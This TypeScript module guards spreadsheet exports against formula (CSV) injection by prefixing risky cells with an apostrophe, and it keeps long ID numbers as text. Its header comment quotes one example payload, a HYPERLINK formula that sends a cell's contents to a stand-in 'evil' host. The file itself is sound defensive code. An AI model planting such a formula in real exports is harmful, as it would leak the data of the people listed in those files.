/**
 * Spreadsheet-safe cell values for exports (XLSX and CSV).
 *
 * Formula injection (CSV injection): a spreadsheet program treats a cell that starts with
 * = + - @ (and, in some programs, a leading tab or carriage return) as a formula, so a person
 * registered as `=HYPERLINK("http://evil/?"&A1,"点此")` would run when a worker opens the file.
 * As OWASP recommends, such a cell gets a leading apostrophe: Excel, WPS and LibreOffice then
 * show the text as text. The full-width forms (＝＋－＠) are treated alike, because some
 * input methods and spreadsheet programs convert them to the ASCII ones.
 */
export type CellValue = string | number | null | undefined;

const FORMULA_START = /^[=+\-@\t\r＝＋－＠]/;

/** The text with a leading apostrophe if a spreadsheet could read it as a formula. */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/**
 * A value ready for a spreadsheet cell: text neutralised, numbers kept as numbers (a negative
 * number is a number, not a formula), nothing as null.
 */
export function safeCell(value: CellValue): string | number | null {
  if (value === null || value === undefined) return null;
  if (typeof value === 'number') return Number.isFinite(value) ? value : null;
  return neutralizeFormula(value);
}

/**
 * Long digit strings (18-digit ID numbers, 16-digit household numbers, 12-digit village codes)
 * would be shown by Excel in scientific notation and lose every digit after the fifteenth when
 * it opens a CSV file, and codes lose their leading zeros. A leading tab keeps them text in
 * Excel and WPS; it is added after the formula check and only before digits, so it cannot
 * start a formula. (XLSX cells are typed as text and need no such hint.)
 */
const DIGITS_EXCEL_WOULD_MANGLE = /^(?:\d{12,}|0\d+)$/;

/** One CSV field (RFC 4180): neutralised, long digit strings kept as text, quoted when needed. */
export function csvField(value: CellValue): string {
  const cell = safeCell(value);
  if (cell === null) return '';
  if (typeof cell === 'number') return String(cell);
  const text = DIGITS_EXCEL_WOULD_MANGLE.test(cell) ? `\t${cell}` : cell;
  return /[",\r\n\t]/.test(text) || text !== text.trim() ? `"${text.replaceAll('"', '""')}"` : text;
}

/** One CSV record with its CRLF line end (RFC 4180; what Excel writes). */
export function csvRecord(values: readonly CellValue[]): string {
  return `${values.map(csvField).join(',')}\r\n`;
}

/** Excel opens a UTF-8 CSV as UTF-8 only when it starts with a byte-order mark. */
export const UTF8_BOM = '\uFEFF';
